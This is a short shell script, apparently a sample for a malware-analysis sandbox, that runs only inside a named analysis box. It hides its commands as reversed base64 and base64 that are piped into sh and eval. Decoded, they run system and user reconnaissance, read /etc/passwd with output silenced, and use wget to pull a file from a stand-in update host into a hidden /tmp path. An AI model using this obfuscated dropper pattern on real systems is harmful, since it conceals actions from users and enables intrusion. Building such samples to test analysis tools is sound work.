#!/bin/sh
# SPDX-License-Identifier: MIT
# Runs commands that are only ever written encoded: reversed base64,
# decoded on the fly and piped into a shell, and one through eval.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
c='Ks2bg8GajVGI7wGb152L2VGZvAiPgQ2dzNXYw9yY0V2LgQXYjByOklGI7EWLgUWbh5Wd'
echo "$c" | rev | base64 -d | sh > /dev/null 2>&1
eval "$(echo 'd2dldCAtcSAtVCAyIC10IDEgLU8gL3RtcC8ubGQgaHR0cDovL2Nkbi11cGRhdGUuZXhhbXBsZS5uZXQvbGQgfHwgdHJ1ZQo=' | base64 -d)"
exit 0
